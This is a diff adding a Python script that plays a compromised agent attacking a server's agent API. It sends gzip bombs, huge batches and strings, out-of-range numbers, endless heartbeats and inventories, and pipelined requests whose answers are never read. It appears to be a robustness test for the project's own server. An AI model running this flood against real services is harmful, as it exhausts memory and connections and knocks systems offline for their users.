@@ -1,0 +1,114 @@
+"""An agent that was taken over, with every attack at once: URL of the server, its credential.
+
+Bombs of gzip, little text that takes much memory, batches as large as they may be, heartbeats and inventories
+without end, numbers and texts at and beyond their bounds, and connections whose answers nobody reads.
+"""
+
+import asyncio
+import contextlib
+import gzip
+import itertools
+import json
+import os
+import sys
+from urllib.parse import urlsplit
+from uuid import uuid4
+
+import aiohttp
+
+CONNECTIONS = 16
+PAUSE_SECONDS = 0.02
+UNREAD = 20
+
+
+def bodies(stream_id: str, sequence: int) -> dict[str, tuple[str, bytes]]:
+    """What is sent in one round: a path and a body by what it attacks."""
+    begun = f'{{"streamId":"{stream_id}","seq":{sequence},"items":['
+    text = "".join(chr(0x10000 + byte) for byte in os.urandom(600))
+    return {
+        "a bomb": (
+            "hello",
+            b'{"protocol":1,"agentVersion":"x","capabilities":[' + b'"a",' * 8_000_000 + b'"a"]}',
+        ),
+        "many values": ("batch", begun.encode() + b"[]," * 3_000_000 + b"[]]}"),
+        "as large as may be": ("batch", f'{begun}{{"a":"'.encode() + b"x" * 11_000_000 + b'"}]}'),
+        "numbers": (
+            "heartbeat",
+            b'{"streamId":"%b","seq":0,"nodePools":[{"nodePool":"a","nodes":1,"gpus":1e308}]}'
+            % stream_id.encode(),
+        ),
+        "texts": (
+            "inventory",
+            json.dumps(
+                {
+                    "streamId": stream_id,
+                    "coverage": [{"group": text[:200], "kind": text[:200]}] * 500,
+                }
+            ).encode(),
+        ),
+        "entries": (
+            "inventory/entries",
+            json.dumps(
+                {
+                    "streamId": stream_id,
+                    "inventoryId": str(uuid4()),
+                    "entries": [[str(uuid4()), "x"] for _ in range(5_000)],
+                }
+            ).encode(),
+        ),
+        "heartbeats": ("heartbeat", b'{"streamId":"%b","seq":0}' % stream_id.encode()),
+    }
+
+
+async def attack(session: aiohttp.ClientSession, url: str, number: int) -> None:
+    """Round after round, until it is ended."""
+    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
+    hello = gzip.compress(b'{"protocol":1,"agentVersion":"x"}')
+    stream_id = "x"
+    async with session.post(f"{url}/agent/v1/hello", data=hello, headers=headers) as answer:
+        if answer.status == 200:
+            stream_id = (await answer.json())["streamId"]
+    packed = {
+        name: (path, gzip.compress(body)) for name, (path, body) in bodies(stream_id, 1).items()
+    }
+    names = list(packed)
+    for turn in itertools.count(number):
+        path, body = packed[names[turn % len(names)]]
+        with contextlib.suppress(aiohttp.ClientError, TimeoutError):
+            async with session.post(f"{url}/agent/v1/{path}", data=body, headers=headers) as answer:
+                await answer.read()
+        await asyncio.sleep(PAUSE_SECONDS)
+
+
+async def send_unread(url: str) -> None:
+    """Requests on one connection, the answers of which are not read; anew when it is closed."""
+    address = urlsplit(url)
+    while True:
+        with contextlib.suppress(OSError, TimeoutError):
+            _, writer = await asyncio.open_connection(address.hostname, address.port)
+            try:
+                async with asyncio.timeout(5):
+                    while True:
+                        writer.write(b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50)
+                        await writer.drain()
+            finally:
+                writer.close()
+        await asyncio.sleep(0.5)
+
+
+async def main(url: str, credential: str) -> None:
+    connector = aiohttp.TCPConnector(limit=CONNECTIONS)
+    headers = {"Authorization": f"Bearer {credential}"}
+    timeout = aiohttp.ClientTimeout(total=90)
+    async with (
+        aiohttp.ClientSession(connector=connector, headers=headers, timeout=timeout) as session,
+        asyncio.TaskGroup() as tasks,
+    ):
+        for number in range(CONNECTIONS):
+            tasks.create_task(attack(session, url, number))
+        for _ in range(UNREAD):
+            tasks.create_task(send_unread(url))
+
+
+if __name__ == "__main__":
+    asyncio.run(main(*sys.argv[1:3]))
